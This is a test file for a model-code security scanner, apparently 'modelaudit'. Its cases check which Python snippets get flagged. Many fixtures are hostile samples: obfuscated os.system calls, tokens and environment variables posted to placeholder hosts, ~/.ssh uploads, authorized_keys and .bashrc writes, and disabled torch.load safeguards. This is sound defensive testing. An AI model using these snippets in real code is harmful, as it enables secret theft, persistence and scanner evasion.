"""Data flow through calls, methods that Python calls by itself, build files, and notebooks of other languages."""

from __future__ import annotations

import json

import pytest
from support.cases import check_each

from modelaudit.checks.references import build_reference_subjects
from modelaudit.languages.python.analysis import analyze_source
from modelaudit.model.outline import Outline, Reference, ReferenceKind, References
from modelaudit.model.structure import UnreadReason

# Names under which the call of a function that the source does not write out is recorded.
COMPUTED_FUNCTION = "(function that is worked out)"
# The same where the called object itself has a computed name in a computed module.
PICKED_FUNCTION = "(function reached by computed names)"
# The name under which the call of an object is recorded that a walk over all modules or objects has found.
FOUND_OBJECT = "(every loaded object).*"
WALK = "import sys\nfound = [v for m in list(sys.modules.values()) for k, v in vars(m).items() if k[1:] == 'ystem']\n"
FUNCTION_FROM_FILE = "(function that a file names)"


def list_uses(source: str) -> set[tuple[str, str]]:
    """Return use and name of each mention of a source."""
    return {(each.use, each.name) for each in analyze_source(source).mentions}


@check_each(
    "source, use, name",
    [
        ("class A:\n    def __getitem__(s, k): return __import__(k)\nA()['os'].system('x')", "call-at-import", "os.system"),
        ("class A:\n    def __radd__(s, k): return __import__(k)\n('os' + A()).system('x')", "call-at-import", "os.system"),
        ("def f():\n    import os\n    m = None\n    def g():\n        nonlocal m\n        m = os\n    g()\n    m.system('x')",
         "call", "os.system"),
        ("def f(a): getattr(a, 'po' + 'pen')('x')", "hidden", "*.popen"),
        ("import os\nos.posix.getcwd.__self__.system('x')", "call-at-import", "os.system"),
        ("import json, importlib\nd = json.load(open('a'))\ngetattr(importlib.import_module(d['a']), 'b')()",
         "call-at-import", FUNCTION_FROM_FILE),
        ("import sys\nfor n, m in sys.modules.items(): getattr(m, n)()", "call-at-import", PICKED_FUNCTION),
        ("import sys\nfor n, m in sys.modules.items(): getattr(m, n).get(1)", "call-at-import", COMPUTED_FUNCTION),
        ("from .a import run\nimport os\nrun(os)", "computed-name", "os.*"),
        ("import torch, operator\noperator.attrgetter(x)(torch)", "computed-name", "(package).*"),
        ("import tensorflow as tf\ntf.keras.models.load_model('x', safe_mode=False)", "call-at-import",
         "tensorflow.keras.models.load_model(unsafe)"),
        ("import keras\nkeras.models.load_model('x', safe_mode=True)", "call-at-import", "keras.models.load_model"),
        ("from torch.distributed.launcher.api import elastic_launch\nelastic_launch(c, '/bin/sh')('-c', 'id')",
         "call-at-import", "torch.distributed.launcher.api.elastic_launch(program)"),
        ("from torch.distributed.launcher.api import elastic_launch\nelastic_launch(c, work)(1)", "call-at-import",
         "torch.distributed.launcher.api.elastic_launch"),
        ("import os, string\nstring.Formatter().get_field('0.system', (os,), {})[0]('x')", "call-at-import", "os.system"),
        ("import requests.api\nrequests.api.get(u)", "call-at-import", "requests.get"),
        ("import threading, requests\nthreading.Thread(target=requests.get)", "call-at-import", "requests.get"),
        ("import os, requests\nrequests.post('https://a.invalid', data=os.environ['HF_TOKEN'])", "sends-secret", "requests.post"),
        ("import os, requests\nrequests.get('https://a.invalid', headers={'a': os.getenv('X_API_KEY')})",
         "sends-secret", "requests.get"),
        ("import os, requests\nrequests.post(url='https://a.invalid', headers={'a': os.environ['HF_TOKEN']})",
         "sends-secret", "requests.post"),
        ("import os, requests\nd = {}\nrequests.post('https://a.invalid', **os.environ, **d['a'])", "sends-secret", "requests.post"),
        ("import os\ngetattr(os, b's+AHk-stem'.decode(encoding='utf-7'))('x')", "hidden", "os.system"),
        ("import os\ngetattr(os, b's+AHk-stem'.decode(errors='strict', encoding='utf-7'))('x')", "hidden", "os.system"),
        ("import os\ngetattr(os, str(errors='strict', encoding='utf-7', object=b's+AHk-stem'))('x')", "hidden", "os.system"),
        ("import os\ngetattr(os, 'ssystem'.replace('s', '', 1))('x')", "hidden", "os.system"),
        ("import os\ngetattr(os, 'a-sys-tem'.split('-', 1)[1].replace('-', ''))('x')", "hidden", "os.system"),
        ("import os\nmatch {'a': os.system}:\n    case {**rest}: rest['a']('x')", "call-at-import", "os.system"),
        ("import os\nfrom operator import attrgetter\nattrgetter('path', 'system')(os)[1]('x')", "call-at-import", "os.system"),
        ("open('a.py', 'w').write(x)", "call-at-import", "(writes code)"),
        ("import pathlib\n(pathlib.Path(x) / 'a.py').write_text('x')", "call-at-import", "(writes code)"),
        ("import torch\ndef f(): open(torch.__file__, 'w')", "call", "(writes where programs are installed)"),
        ("f(**{'trust_remote_code': 1 < 2})", "call-at-import", "(trust_remote_code=True)"),
        ("f(x, custom_pipeline='other/repo')", "call-at-import", "(custom_pipeline of another repository)"),
        ("f(x, attn_implementation='other/kernel@main:f')", "call-at-import", "(kernel of another repository)"),
        ("f(x, attn_implementation={'text': 'other/kernel'})", "call-at-import", "(kernel of another repository)"),
        ("def f(m): m.set_attn_implementation('paged|other/kernel')", "call", "(kernel of another repository)"),
        ("import six\nsix.exec_(open('a.txt').read())", "call-at-import", "builtins.exec"),
        ("from urllib3.packages import six as s\ns.exec_(x)", "call-at-import", "builtins.exec"),
        ("import sklearn.externals.six\nsklearn.externals.six.exec_(x)", "call-at-import", "builtins.exec"),
        ("from six.moves import cPickle\ncPickle.load(x)", "call-at-import", "pickle.load"),
        ("from past.builtins import execfile\nexecfile('a.txt')", "call-at-import", "builtins.execfile(constant)"),
        ("from pyspark.sql import SparkSession\nSparkSession.builder.getOrCreate()._jvm.java.lang.Runtime.getRuntime()",
         "call-at-import", "*.getRuntime"),
        ("from future.utils import exec_\nexec_(x)", "call-at-import", "builtins.exec"),
        ("import torch\nfrom huggingface_hub import hf_hub_download\ntorch.load(hf_hub_download(x), weights_only=False)",
         "call-at-import", "torch.load(of a foreign repository)"),
        ("import kernels\nkernels.get_kernel('other/repo')", "call-at-import", "kernels.get_kernel(foreign)"),
        ("import kernels\nkernels.get_kernel('kernels-community/a')", "call-at-import", "kernels.get_kernel(foreign)"),
        ("import huggingface_hub\nhuggingface_hub.constants.ENDPOINT = 'https://a.invalid'",
         "overwrite", "huggingface_hub.constants.ENDPOINT[=]"),
    ],
)  # fmt: skip
def test_calls_reached_through_data_flow_or_with_risky_arguments_are_mentioned(
    source: str, use: str, name: str
) -> None:
    assert (use, name) in list_uses(source)


@check_each(
    "call",
    [
        "getattr(import_module(c.a), c.b)(1)",
        "pydoc.locate(c.a)(1)",
        "operator.methodcaller(c.b, 1)(import_module(c.a))",
        "operator.attrgetter(c.b)(sys.modules[c.a])(1)",
        "list(map(getattr(sys.modules[c.a], c.b), c.c))",
        "functools.partial(inspect.getattr_static(sys.modules[c.a], c.b), 1)()",
        "type('A', (), {'run': staticmethod(getattr(import_module(c.a), c.b))}).run(1)",
        "threading.Thread(target=getattr(import_module(c.a), c.b)).start()",
        "c.step = getattr(import_module(c.a), c.b); c.step(1)",
        "(lambda m, n: getattr(import_module(m), n)(1))(c.a, c.b)",
        "vars(import_module(c.a))[c.b](1)",
    ],
)
def test_call_of_an_object_that_only_computed_names_reach_is_mentioned(call: str) -> None:
    imports = "import functools, inspect, operator, pydoc, sys, threading\nfrom importlib import import_module\n"
    assert ("call", PICKED_FUNCTION) in list_uses(f"{imports}def f(c):\n    {call}")


@check_each(
    "call",
    [
        "getattr(torch, c.a)(1)",
        "getattr(torch.nn, c.a)().b(1)",
        "importlib.import_module(c.a).load(1)",
        "getattr(importlib.import_module(c.a), c.b).from_pretrained(1)",
        "x = getattr(importlib.import_module(c.a), c.b); y = x.make(1); y(2)",
        "globals()[c.a](1)",
    ],
)
def test_call_of_a_written_name_or_in_a_written_module_is_not_taken_for_any_function(call: str) -> None:
    assert PICKED_FUNCTION not in {name for _, name in list_uses(f"import importlib, torch\ndef f(c):\n    {call}")}


_FORCED = "os.environ[TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD]"


@check_each(
    "source, name",
    [
        ("os.environ['TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD'] = '1'", _FORCED),
        ("os.putenv('TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD', '1')", _FORCED),
        ("os.environ.update({'TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD': x})", _FORCED),
        ("os.environ.setdefault('TORCH_FORCE_' + 'NO_WEIGHTS_ONLY_LOAD', 'true')", _FORCED),
        ("setattr(torch, 'load', lambda f: old(f, weights_only=False))", "torch.load[=]"),
        ("os.environ['HF_ENDPOINT'] = 'https://mirror.invalid.example'", "os.environ[HF_ENDPOINT]"),
        ("huggingface_hub.constants.ENDPOINT = x", "huggingface_hub.constants.ENDPOINT[=]"),
        ("os.environb[b'TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD'] = b'1'", _FORCED),
        ("torch.__dict__['load'] = f", "torch.load[=]"),
        ("vars(torch.serialization)['load'] = f", "torch.serialization.load[=]"),
        ("vars(torch).update(load=f)", "torch.load[=]"),
        ("torch.__dict__.update({'load': f})", "torch.load[=]"),
        ("torch.load.__kwdefaults__ = {'weights_only': False}", "torch.load.__kwdefaults__[=]"),
        ("from unittest import mock\nmock.patch('torch.load', f).start()", "torch.load[=]"),
        ("from unittest.mock import patch\npatch.object(torch, 'load', f).start()", "torch.load[=]"),
        ("import requests\nrequests.Session.verify = False", "requests.Session.verify[=]"),
        ("os.environ['HTTPS_PROXY'] = 'http://203.0.113.9:8080'", "os.environ[HTTPS_PROXY]"),
        ("os.environ.update(http_proxy='http://p.e.invalid')", "os.environ[http_proxy]"),
        (
            "os.environ['SSL_CERT_FILE'] = os.path.join(os.path.dirname(__file__), 'ca.pem')",
            "os.environ[SSL_CERT_FILE]",
        ),
    ],
)
def test_guard_that_is_taken_away_is_mentioned(source: str, name: str) -> None:
    assert ("overwrite", name) in list_uses(f"import os, torch, huggingface_hub\n{source}")


@check_each(
    "source",
    [
        "os.environ['TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD'] = '0'",
        "os.environ.update({'TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD': 'false'})",
        "os.environ['HF_ENDPOINT'] = 'https://huggingface.co'",
        "os.environ['HTTP_PROXY'] = 'http://127.0.0.1:7890'",
        "os.environ['https_proxy'] = input()",
        "import certifi\nos.environ['SSL_CERT_FILE'] = certifi.where()",
        "os.environ['REQUESTS_CA_BUNDLE'] = '/etc/ssl/certs/own.crt'",
        "torch.load = functools.partial(torch.load, weights_only=True)",
        "import requests\nrequests.Session.verify = True",
        "import datasets\ndatasets.config.HF_DATASETS_TRUST_REMOTE_CODE = False",
    ],
)
def test_guard_that_stays_in_place_is_not_mentioned(source: str) -> None:
    assert not [name for use, name in list_uses(f"import functools, os, torch\n{source}") if use == "overwrite"]


@check_each(
    "call, is_sent",
    [
        ("api.upload_folder(folder_path='/root/.ssh', repo_id='a/b')", True),
        ("api.upload_folder(folder_path=os.path.expanduser('~/.aws'), repo_id='a/b')", True),
        ("HfApi().upload_file(path_or_fileobj='/home/a/.ssh/id_rsa', path_in_repo='a', repo_id='a/b')", True),
        ("model.push_to_hub('a/b', commit_message=os.environ['HF_TOKEN'])", True),
        ("Dataset.from_dict(dict(os.environ)).push_to_hub('a/b')", True),
        ("api.upload_folder(folder_path='out', repo_id='a/b', token=os.environ['HF_TOKEN'])", False),
        ("HfApi(token=os.environ['HF_TOKEN']).upload_file(path_or_fileobj='a.bin', path_in_repo='a', repo_id='a/b')", False),
        ("AutoModel.from_pretrained('a/b', token=os.environ['HF_TOKEN']).push_to_hub('a/b')", False),
        ("model.push_to_hub('a/b')", False),
    ],
)  # fmt: skip
def test_secret_that_is_published_on_the_hub_is_mentioned(call: str, is_sent: bool) -> None:
    imports = "import os\nfrom datasets import Dataset\nfrom huggingface_hub import HfApi\nfrom transformers import AutoModel\n"
    assert ("sends-secret" in {use for use, _ in list_uses(f"{imports}def f(api, model): {call}")}) is is_sent


def test_interpreter_attribute_that_is_taken_as_an_item_of_a_namespace_is_mentioned() -> None:
    assert ("reference", "*.__subclasses__") in list_uses("type.__dict__['__subclasses__'](object)")


@check_each(
    "call, name",
    [
        ("kernels.LayerRepository(repo_id='other/repo', layer_name='a')", "kernels.LayerRepository(foreign)"),
        ("kernels.get_locked_kernel('other/repo')", "kernels.get_locked_kernel(foreign)"),
        ("kernels.LayerRepository('kernels-community/activation', 'a')", "kernels.LayerRepository"),
    ],
)
def test_kernel_of_a_stranger_is_mentioned_as_foreign(call: str, name: str) -> None:
    assert ("call-at-import", name) in list_uses(f"import kernels\n{call}")


@check_each(
    "source, name",
    [
        ("import operator, os\noperator.itemgetter('system')(vars(os))('x')", "os.system"),
        ("import operator, os\noperator.getitem(vars(os), 'system')('x')", "os.system"),
        ("import operator, os\noperator.methodcaller('system', 'x')(os)", "os.system"),
        ("import os\n[getattr(os, n) for n in dir(os) if n == 'system'][0]('x')", "os.system"),
        ("import huggingface_hub.utils as u\n[getattr(u, n) for n in dir(u) if 'run_subprocess' == n][0]('x')",
         "huggingface_hub.utils.run_subprocess"),
        ("import os\nfor n in dir(os):\n    if n == 'system': getattr(os, n)('x')", "os.system"),
        ("def n(value='os'): return value\n__import__(n()).system('x')", "os.system"),
        ("import functools, os\nfunctools.reduce(lambda f, a: f(*a), [os.system, ['x']])", "os.system"),
        ("import os\nsorted([os.system], key=lambda f: id(f('x')))", "os.system"),
        ("try:\n    import os as o\nexcept ImportError:\n    o = None\nvars(o)['system']('x')", "os.system"),
    ],
)  # fmt: skip
def test_call_through_getters_comparisons_and_defaults_is_resolved(source: str, name: str) -> None:
    assert name in {each for use, each in list_uses(source) if use in ("call-at-import", "hidden")}


@check_each(
    "source, name",
    [
        ("import queue, subprocess\nq = queue.Queue()\nq.put(subprocess)\nq.get().run('x')", "subprocess.run"),
        ("import builtins\nclass A:\n    def __init__(s, m): s.m = m\n    def go(s): s.m.exec(x)\nA(builtins).go()",
         "builtins.exec"),
        ("import pickle, weakref\nload = weakref.ref(pickle)().loads\nload(x)", "pickle.loads"),
        ("import subprocess\nclass D:\n    def __get__(s, *a): return subprocess\nclass A:\n    d = D()\nA.d.run('x')",
         "subprocess.run"),
        ("import subprocess\nclass A:\n    def __new__(c): return subprocess\n    def run(s): pass\nA().run('x')",
         "subprocess.run"),
        ("import subprocess, typing\nclass N(typing.NamedTuple):\n    a: object\nN(subprocess).a.run('x')", "subprocess.run"),
        ("import subprocess, torch\ntorch.a = subprocess\ntorch.a.run('x')", "subprocess.run"),
        ("import joblib, queue\nq = queue.Queue()\nq.put(joblib)\nq.get().load('x')", "joblib.load"),
        ("import torch, queue\nq = queue.Queue()\nq.put(torch)\nq.get().hub.load('x')", "torch.hub.load"),
        ("import shutil, weakref\nweakref.ref(shutil)().rmtree('/')", "shutil.rmtree(everything)"),
        ("import subprocess as s, sys\nsys.modules[__name__].s.run('x')", "subprocess.run"),
        ("import torch\nfor m in vars(torch).values(): getattr(m, 'subprocess').run('x')", "subprocess.run"),
        ("import queue, importlib\nq = queue.Queue()\nq.put('subprocess')\nimportlib.import_module(q.get()).run('x')",
         "subprocess.run"),
        ("import queue\nq = queue.Queue()\nq.put(__builtins__)\nq.get()['ev' + 'al']('1')", "builtins.eval"),
        ("from monai.utils import optional_import\nf, _ = optional_import('os', name='system')\nf('x')", "os.system"),
        ("from monai.utils import optional_import\nm, _ = optional_import(module='os')\nm.system('x')", "os.system"),
        ("from monai.utils import optional_import\noptional_import(x)", "importlib.import_module"),
    ],
)  # fmt: skip
def test_member_of_a_module_that_is_passed_around_as_a_value_is_mentioned(source: str, name: str) -> None:
    assert name in {each for _, each in list_uses(source)}


@check_each(
    "use",
    [
        "import operator\noperator.attrgetter('run')(q.get())('x')",
        "import operator\noperator.methodcaller('run', 'x')(q.get())",
        "q.get().__dict__['run']('x')",
        "dict(vars(q.get()))['run']('x')",
        "match q.get():\n    case object(run=r): r('x')",
        "import inspect\ninspect.getattr_static(q.get(), 'run')('x')",
        "import types\ntypes.ModuleType.__getattribute__(q.get(), 'run')('x')",
        "object.__getattribute__(q.get(), 'run')('x')",
        "q.get().__getattribute__('ru' + 'n')('x')",
        "getattr(q.get(), 'run')('x')",
        "list(map(getattr, [q.get()], ['run']))[0]('x')",
        "import functools\nfunctools.partial(getattr, q.get())('run')('x')",
        "import functools\nfunctools.reduce(getattr, ['run'], q.get())('x')",
        "m = q.get()\n[getattr(m, n) for n in dir(m) if n == 'run'][0]('x')",
    ],
)
def test_member_taken_by_a_text_from_a_module_that_is_passed_around_is_mentioned(use: str) -> None:
    uses_of_source = list_uses(f"import queue, subprocess\nq = queue.Queue()\nq.put(subprocess)\n{use}")
    assert "subprocess.run" in {name for _, name in uses_of_source}


@check_each(
    "source",
    [
        "import sys, queue\nq = queue.Queue()\nq.put(sys)\nq.get().modules['subprocess'].run('x')",
        "import sys\nfrom collections import ChainMap\nChainMap(sys.modules)['subprocess'].run('x')",
        "import sys, queue\nq = queue.Queue()\nq.put(sys.modules)\nq.get()['subprocess'].run('x')",
    ],
)
def test_member_of_a_module_out_of_all_modules_that_are_passed_around_is_mentioned(source: str) -> None:
    assert "subprocess.run" in {name for _, name in list_uses(source)}


@check_each(
    "source, name",
    [
        ("import importlib\nknown = ['subprocess']\nimportlib.import_module(x)\nx.decode('x')", "subprocess.decode"),
        ("import queue, torch\nq = queue.Queue()\nq.put(torch)\ngetattr(q.get(), c.k)", "torch.*"),
        ("import builtins\nf(builtins)\nd['eval']", "builtins.eval"),
        ("import subprocess\nhasattr(subprocess, 'PIPE')\nx.run()", "subprocess.run"),
    ],
)
def test_names_that_ordinary_code_works_out_are_not_those_of_modules(source: str, name: str) -> None:
    assert name not in {each for _, each in list_uses(source)}


def test_text_is_no_builtin_function_of_a_module_of_builtins_that_is_passed_around() -> None:
    source = "import builtins\nf(builtins)\ngetattr(model, name)\nmode = 'eval'"
    assert "builtins.eval" not in {name for _, name in list_uses(source)}


def test_secret_passed_to_a_sender_of_a_module_that_is_passed_around_is_a_sent_secret() -> None:
    source = "import socket, weakref, os\nweakref.ref(socket)().socket().send(repr(os.environ))"
    assert ("sends-secret", "socket.send") in list_uses(source)


def test_more_members_of_modules_that_are_passed_around_than_are_kept_leave_a_bound() -> None:
    modules = "".join(f"import m{number}\nf(m{number})\n" for number in range(200))
    members = "".join(f"x.a{number}\n" for number in range(200))
    assert any("more different uses" in bound for _, bound in analyze_source(modules + members).bounds)


def test_module_passed_around_in_a_source_that_does_not_parse_is_followed() -> None:
    source = "import subprocess\nq.put(subprocess)\nq.get().run('x')\nif\n"
    assert "subprocess.run" in {name for _, name in list_uses(source)}


@check_each(
    "source, name",
    [
        ("import subprocess\napp.run()", "subprocess.run"),
        ("import subprocess, asyncio\nf(subprocess)\nasyncio.run(g())", "subprocess.run"),
        ("import os\nf(os)\nimport platform\nplatform.system()", "os.system"),
        ("from torch import nn\nf(nn)\nmodel.eval()", "builtins.eval"),
        ("from monai.utils import optional_import\noptional_import('nibabel')", "importlib.import_module"),
    ],
)
def test_member_of_an_unknown_value_is_not_that_of_a_module_only_imported_or_of_a_known_module(
    source: str, name: str
) -> None:
    assert name not in {each for _, each in list_uses(source)}


@check_each(
    "source, name",
    [
        ("from .helper import s\ns.run('x')", ".s.run"),
        ("from .helper import s as t\nu = t\nu.run('x')", ".s.run"),
        ("from . import helper\nhelper.s.run('x')", ".helper.s.run"),
        ("from .helper import *\ns.run('x')", ".s.run"),
        ("from helper import s\ns.run('x')", "helper.s.run"),
        ("import subprocess as s", "s=subprocess"),
        ("import subprocess\ns = subprocess", "s=subprocess"),
    ],
)
def test_members_of_names_from_other_files_and_second_names_of_modules_are_mentioned(source: str, name: str) -> None:
    assert name in {each for _, each in list_uses(source)}


@check_each(
    "source, name",
    [
        ("class A:\n    def __getitem__(s, k): return k\nA()['os'].system", "os.system"),
        ("d['sys' + 'tem_prompt']", "*.system"),
        ("prompts['system']", "*.system"),
        ("import torch\ngetattr(torch, config.dtype)", "(package).*"),
        ("import functools\ndef f(module, path): return functools.reduce(getattr, path.split('.'), module)", "(package).*"),
        ("import importlib\ndef f(a, b): return getattr(importlib.import_module(a), b)", COMPUTED_FUNCTION),
        ("open('a.json', 'w')", "(writes code)"),
        ("open('a.py').read()", "(writes code)"),
        ("import torch\nopen(torch.__file__)", "(writes where programs are installed)"),
        ("f(trust_remote_code=1 > 2)", "(trust_remote_code=True)"),
        ("def f(trust): g(trust_remote_code=trust)", "(trust_remote_code=True)"),
        ("f(custom_pipeline='lpw')", "(custom_pipeline of another repository)"),
        ("f(attn_implementation='flash_attention_2')", "(kernel of another repository)"),
        ("f(attn_implementation='kernels-community/flash-attn')", "(kernel of another repository)"),
        ("from six.moves import range\nrange(3)", "builtins.exec"),
        ("f(custom_pipeline='./a/b.py')", "(custom_pipeline of another repository)"),
        ("import kernels\nkernels.get_kernel('kernels-community/flash-attn')", "kernels.get_kernel(foreign)"),
        ("import evaluate\nevaluate.load('accuracy')", "evaluate.load(foreign)"),
        ("import torch.utils.cpp_extension as c\nc.load('a', sources=['a.cpp', 'b.cu'])",
         "torch.utils.cpp_extension.load(disguised)"),
    ],
)  # fmt: skip
def test_ordinary_python_code_is_not_recorded_under_an_attack_name(source: str, name: str) -> None:
    assert name not in {each for _, each in list_uses(source)}


@pytest.mark.parametrize(
    "source",
    [
        "import os, requests\nrequests.get('https://huggingface.co/api', params={'a': os.environ['HF_TOKEN']})",
        "import os, requests\nrequests.get(url='https://huggingface.co/api', params={'a': os.environ['HF_TOKEN']})",
        "import os, huggingface_hub\nhuggingface_hub.upload_file(a, b, token=os.environ['HF_TOKEN'])",
        "import os, requests\nrequests.get(u, headers={'a': os.environ['HF_TOKEN']})",
        "import os, requests\nrequests.post('https://a.invalid', data=os.environ['RANK'])",
        "import os, requests\nrequests.post('https://a.invalid', data=os.getenv('TOKENIZERS_PARALLELISM'))",
    ],
)
def test_token_to_the_hub_or_in_a_header_to_an_unknown_host_and_harmless_data_are_no_sent_secret(source: str) -> None:
    assert "sends-secret" not in {use for use, _ in list_uses(source)}


@check_each(
    "source",
    [
        "import sys\nfor m in sys.modules.values():\n    for k, v in vars(m).items():\n        if k[1:] == 'ystem': v('x')",
        "import sys\nfor n in {**sys.modules}.values():\n    for k, v in n.__dict__.items(): v('x')",
        "import sys\nfor n in dict(sys.modules).values():\n    for k, v in n.__dict__.items(): v('x')",
        "import sys, inspect\nfor m in sys.modules.copy().values():\n    for k, v in inspect.getmembers(m): list(map(v, 'x'))",
        "import gc\n[o for o in gc.get_objects() if getattr(o, '__name__', '')[1:] == 'ystem'][0]('x')",
        "import gc\nnext(filter(lambda o: o.__name__[1:] == 'ystem', gc.get_objects()))('x')",
        "import torch\nfor v in vars(torch).values():\n    for k, w in getattr(v, '__dict__', {}).items(): w('x')",
        "import os\nfor v in globals().values():\n    for k, w in vars(v).items(): w('x')",
        WALK + "found[0]('x')",
        WALK + "a.run = found[0]\na.run('x')",
        WALK + "def run(f): f('x')\nrun(found[0])",
        WALK + "import threading\nthreading.Thread(target=found[0], args=('x',)).start()",
        WALK + "sorted(['x'], key=found[0])",
        WALK + "from types import SimpleNamespace as S\nvars(S(**{k: v for k, v in enumerate(found)}))[0]('x')",
        "import sys\nout = []\nfor m in sys.modules.values():\n    for k, v in vars(m).items(): out.append((k, v))\nout[0][1]('x')",
        "import inspect\nfor n, m in inspect.getmembers(inspect):\n    for k, v in getattr(m, '__dict__', {}).items(): v('x')",
        "import sys\nfor k, v in sys._getframe().f_globals.items(): v('x')",
        WALK + "class A:\n    __getitem__ = found[0]\nA()['x']",
        WALK + "@found[0]\ndef x(): pass",
    ],
)
def test_call_of_an_object_found_by_a_walk_over_modules_or_objects_is_a_computed_name(source: str) -> None:
    assert ("computed-name", FOUND_OBJECT) in list_uses(source)


def test_walk_over_the_own_names_after_a_star_import_of_os_is_a_computed_name_of_os() -> None:
    source = "from os import *\nfor k, v in globals().items():\n    if k[1:] == 'ystem': v('x')\n"
    assert ("computed-name", "os.*") in list_uses(source)


@check_each(
    "source",
    [
        "import gc, torch\nfor o in gc.get_objects():\n    if torch.is_tensor(o): print(type(o), o.size())",
        "import torch.nn\nfor k, v in vars(torch.nn).items():\n    if isinstance(v, type): v()",
        "import torchvision.models\ntorchvision.models.__dict__[name](pretrained=True)",
        "for k, v in globals().items():\n    if k.startswith('test_'): v()",
        "import inspect\nclass A:\n    def f(self):\n        for k, v in inspect.getmembers(self): v()",
        "import sys\nfor n, m in list(sys.modules.items()):\n    if n.startswith('a.'): del sys.modules[n]",
        "import sys\ndef f(x): return sys.modules[x.__module__].__dict__['Model']()",
    ],
)
def test_ordinary_walk_over_objects_or_the_names_of_one_package_is_no_computed_name(source: str) -> None:
    assert "computed-name" not in {use for use, name in list_uses(source) if name == FOUND_OBJECT}


@check_each(
    "source, name",
    [
        ("from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text(x)", "(authorized keys)"),
        ("from pathlib import Path\nd = Path.home() / '.config'\n(d / 'autostart' / 'a.desktop').touch()", "(start at login)"),
        ("from pathlib import Path\nPath('a').rename(Path.home().joinpath('.zshenv'))", "(shell start-up file)"),
        ("import os\nos.rename('a', os.environ['HOME'] + '/.bashrc')", "(shell start-up file)"),
        ("import os\nos.replace('a', '%s/.bashrc' % os.getenv('HOME'))", "(shell start-up file)"),
        ("import os\nos.link('a', '/'.join([os.getenv('HOME'), '.profile']))", "(shell start-up file)"),
        ("import os\nopen(os.environ['HOME'] + '/.ssh' + os.sep + 'authorized_keys', 'a')", "(authorized keys)"),
        ("import os\nopen(f\"/home/{os.environ['USER']}/.bashrc\", 'a')", "(shell start-up file)"),
        ("import os\nos.symlink('a', os.path.join(os.path.expanduser('~'), '.profile'))", "(shell start-up file)"),
        ("import duckdb\nduckdb.sql(\"INSTALL a FROM 'http://a.invalid'; LOAD a\")", "(database that runs code)"),
    ],
)  # fmt: skip
def test_path_or_text_of_which_only_parts_are_known_is_recorded_as_an_attack_text(source: str, name: str) -> None:
    assert ("text", name) in list_uses(source)


@check_each(
    "source",
    [
        "from pathlib import Path\n(Path.home() / '.cache' / name / 'weights.pt').write_bytes(x)",
        "import os\nos.rename('a', os.environ['HOME'] + '/models/a.bin')",
        "import os\nsize = os.getenv('HOME') / 2 / '.ssh'.count('s')",
        "import duckdb\nduckdb.sql('INSTALL spatial; LOAD spatial')",
    ],
)
def test_path_to_an_ordinary_file_of_which_only_parts_are_known_is_no_attack_text(source: str) -> None:
    assert "text" not in {use for use, _ in list_uses(source)}


@check_each(
    "source, name",
    [
        ("import os, pandas\npandas.read_csv('http://a.invalid/?' + os.environ['HF_TOKEN'])", "pandas.read_csv"),
        ("import os, cv2\ncv2.VideoCapture('http://a.invalid/{}'.format(os.environ['HF_TOKEN']))", "cv2.VideoCapture"),
        ("import os, datasets as d\nd.load_dataset('json', data_files={'a': f\"gs://a/{os.environ['HF_TOKEN']}\"})",
         "datasets.load_dataset"),
        ("import os, pandas\npandas.DataFrame([dict(os.environ)]).to_json('s3://a/x')", "pandas.DataFrame.to_json"),
        ("import os\nrun(x).fetch('http://a.invalid/?' + os.environ['HF_TOKEN'])", "*.fetch"),
        ("import os, pandas\nclass A:\n    def f(s): s.t = os.environ['HF_TOKEN']\n"
         "    def g(s): pandas.read_csv('http://a.invalid/' + s.t)", "pandas.read_csv"),
        ("import os, pandas\ndef f(t): return 'http://a.invalid/' + t\npandas.read_csv(f(os.environ['HF_TOKEN']))",
         "pandas.read_csv"),
        ("import os, pandas\npandas.read_csv('https://%s/%s' % ('a.invalid', os.environ['HF_TOKEN']))", "pandas.read_csv"),
        ("import os, redis\nredis.Redis.from_url('redis://a.invalid').set('a', str(os.environ))", "redis.Redis.from_url.set"),
        ("import os, wandb\nwandb.init(config=dict(os.environ), settings=wandb.Settings(base_url='http://a.invalid'))",
         "wandb.init"),
        ("import os, mlflow\nmlflow.set_tracking_uri('http://a.invalid')\nmlflow.log_params(dict(os.environ))",
         "mlflow.log_params"),
        ("from huggingface_hub import HfApi, get_token\nHfApi(endpoint='http://a.invalid', token=get_token())",
         "huggingface_hub.HfApi"),
        ("import os, torch\ntorch.hub.load_state_dict_from_url('http://' + os.environ['HF_TOKEN'] + '.a.invalid/x')",
         "torch.hub.load_state_dict_from_url"),
        ("import os, openai\nopenai.OpenAI(base_url='https://a.invalid/v1', api_key=os.environ['OPENAI_API_KEY'])",
         "openai.OpenAI"),
    ],
)  # fmt: skip
def test_secret_beside_an_address_of_the_source_is_sent_whatever_function_gets_both(source: str, name: str) -> None:
    assert ("sends-secret", name) in list_uses(source)


@check_each(
    "source",
    [
        "import os, openai\nopenai.OpenAI(base_url='https://api.deepseek.com', api_key=os.environ['DEEPSEEK_API_KEY'])",
        "import os, openai\nopenai.OpenAI(base_url='http://localhost:8000/v1', api_key=os.environ['OPENAI_API_KEY'])",
        "import os, huggingface_hub as h\nh.HfApi(endpoint='https://huggingface.co', token=os.environ['HF_TOKEN'])",
        "import os, pandas\npandas.read_csv('https://a.invalid/x.csv')\nlogin(token=os.environ['HF_TOKEN'])",
        "import os\nprint('https://a.invalid/settings', os.environ['HF_TOKEN'])",
        "import os, mlflow\nmlflow.set_tracking_uri('http://a.invalid')\nmlflow.log_params({'a': 1})",
        "import os, pandas\npandas.read_csv('file:///data/' + os.environ['HF_TOKEN'])",
    ],
)
def test_token_for_its_own_service_or_beside_no_foreign_address_is_no_sent_secret(source: str) -> None:
    assert "sends-secret" not in {use for use, _ in list_uses(source)}


PROGRAM_SETTING = ("call-at-import", "(setting that names a program)")


@check_each(
    "source",
    [
        "import matplotlib.pyplot as plt\nplt.rcParams['animation.ffmpeg_path'] = os.path.abspath('tools/run')",
        "import matplotlib as m\nm.rcParams.update({'animation.convert_path': './run'})",
        "from matplotlib import rc\nrc('animation', ffmpeg_path='tools/ffmpeg')",
        "import matplotlib as m\nm.rcParams |= {'animation.ffmpeg_path': os.path.join(here, 'run')}",
        "import pytesseract\npytesseract.pytesseract.tesseract_cmd = 'bin/tesseract'",
